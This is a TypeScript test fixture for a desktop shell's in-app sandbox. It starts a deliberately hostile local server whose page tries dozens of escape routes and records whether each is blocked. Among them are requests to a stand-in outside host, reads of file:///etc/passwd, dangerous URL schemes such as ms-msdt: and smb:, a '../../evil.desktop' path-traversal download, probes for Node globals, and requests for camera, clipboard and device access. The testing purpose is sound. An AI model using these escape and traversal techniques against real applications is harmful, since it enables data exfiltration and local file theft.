/**
 * A hostile server: its page, which the shell shows in in-app mode, tries all ways out of the window, towards a second server that
 * must get no request.
 */
import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
import { listenHere } from './listenHere.ts';

/** The page's results, by the name of the way: `kept` or what escaped. */
export type Findings = Readonly<Record<string, string>>;

/** Starts both servers. The page stores its {@link Findings} in `window.findings` when it has tried all. */
export async function startHostileServer() {
  const leaked: string[] = [];
  const outside = await listen((request, response) => {
    leaked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('out');
  });
  const inside = await listen((request, response) => {
    const path = request.url ?? '/';
    if (path.startsWith('/redirect')) {
      response.writeHead(302, { location: `${outside.url}/redirect` }).end();
    } else if (path.startsWith('/download')) {
      response
        .writeHead(200, {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename="../../evil.desktop"',
        })
        .end('[Desktop Entry]');
    } else if (path.startsWith('/worker')) {
      response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end('postMessage([typeof process, typeof require, typeof qt].join())');
    } else {
      response.writeHead(200, { 'content-type': 'text/html' }).end(page(outside.url));
    }
  });
  return {
    url: inside.url,
    /** Addresses that reached the second server. */
    leaked,
    close: (): void => {
      for (const { server } of [inside, outside]) {
        server.closeAllConnections();
        server.close();
      }
    },
  };
}

async function listen(
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<{ readonly server: Server; readonly url: string }> {
  const server = createServer(answer);
  return { server, url: await listenHere(server) };
}

/** Each way is tried separately; an exception counts as kept. */
function page(outside: string): string {
  return `<!doctype html><meta charset="utf-8"><title>hostile</title><body><script>
const OUT = ${JSON.stringify(outside)};
const FOREIGN = [OUT, 'https://example.org/', 'file:///etc/passwd', 'plenum://app/', 'chrome://gpu', 'data:text/html,<title>ran</title>',
  'javascript:void(0)', 'ms-msdt:/id', 'smb://host/share', 'devtools://devtools/bundled/inspector.html', 'view-source:' + OUT];
const put = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes));
const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 2000, 'kept'))]);
const heard = (element) => soon(new Promise((resolve) => {
  element.onload = () => resolve('loaded'); element.onerror = () => resolve('kept'); }));
const WAYS = {
  powers: () => ['process', 'require', 'Buffer', 'module', 'ipcRenderer', 'plenumShell'].filter((name) => name in globalThis).join() || 'kept',
  fetch: async () => (await fetch(OUT + '/fetch', { mode: 'no-cors' })) && 'fetched',
  beacon: () => { navigator.sendBeacon(OUT + '/beacon', 'x'); return 'kept'; },
  picture: () => heard(put('img', { src: OUT + '/picture' })),
  script: () => heard(put('script', { src: OUT + '/script' })),
  style: () => heard(put('link', { rel: 'stylesheet', href: OUT + '/style' })),
  prefetch: () => { put('link', { rel: 'prefetch', href: OUT + '/prefetch' }); put('link', { rel: 'preconnect', href: OUT }); return 'kept'; },
  socket: () => soon(new Promise((resolve) => { const socket = new WebSocket(OUT.replace('http', 'ws') + '/socket');
    socket.onopen = () => resolve('opened'); socket.onerror = () => resolve('kept'); })),
  events: () => soon(new Promise((resolve) => { const source = new EventSource(OUT + '/events');
    source.onopen = () => resolve('opened'); source.onerror = () => { source.close(); resolve('kept'); }; })),
  frame: async () => { const frame = put('iframe', { src: OUT + '/frame' }); await soon(new Promise((resolve) => { frame.onload = resolve; }));
    return 'kept'; },
  object: () => { put('object', { data: OUT + '/object' }); put('embed', { src: OUT + '/embed' }); return 'kept'; },
  webview: () => { const view = put('webview', {}); view.setAttribute('src', OUT + '/webview'); return typeof view.loadURL === 'function' ? 'attached' : 'kept'; },
  file: async () => (await fetch('file:///etc/passwd')) && 'read',
  bundle: async () => (await fetch('plenum://app/')).ok ? 'read' : 'kept',
  windows: () => FOREIGN.concat('', 'about:blank', location.href).map((url) => { try { return window.open(url, '_blank', 'popup') } catch { return null } }).some(Boolean) ? 'opened' : 'kept',
  named: () => window.open(OUT, 'named') === null ? 'kept' : 'opened',
  worker: () => soon(new Promise((resolve) => { const worker = new Worker('/worker.js');
    worker.onmessage = ({ data }) => resolve(data === 'undefined,undefined,undefined' ? 'kept' : data); worker.onerror = () => resolve('kept'); })),
  serviceWorker: async () => (await navigator.serviceWorker.register('/worker.js')) && 'kept',
  camera: async () => (await soon(navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => 'granted', () => 'kept'))),
  screen: async () => (await soon(navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'granted', () => 'kept'))),
  place: () => soon(new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('found'), () => resolve('kept')))),
  devices: async () => { const found = []; for (const name of ['usb', 'hid', 'serial', 'bluetooth']) { const list = await navigator[name]?.getDevices?.() ?? await navigator[name]?.getPorts?.() ?? [];
    if (list.length > 0) found.push(name); } return found.join() || 'kept'; },
  midi: () => soon(navigator.requestMIDIAccess({ sysex: true }).then(() => 'granted', () => 'kept')),
  clipboard: () => soon(navigator.clipboard.readText().then(() => 'read', () => 'kept')),
  download: () => { put('a', { href: '/download', download: 'x' }).click(); return 'kept'; },
  locations: async () => { for (const url of FOREIGN) { try { location.href = url; } catch {} await new Promise((resolve) => setTimeout(resolve, 60)); } return 'kept'; },
  forms: () => { for (const url of FOREIGN) { try { put('form', { action: url, method: 'post' }).submit(); } catch {} } return 'kept'; },
  refresh: () => { for (const url of FOREIGN) put('meta', { httpEquiv: 'refresh', content: '0;url=' + url }); return 'kept'; },
  redirect: () => { location.href = '/redirect'; return 'kept'; },
};
(async () => {
  const findings = {};
  for (const [name, attempt] of Object.entries(WAYS)) {
    globalThis.trying = name;
    try { findings[name] = String(await soon(attempt())); } catch { findings[name] = 'kept'; }
  }
  globalThis.findings = findings;
})();
</script></body>`;
}
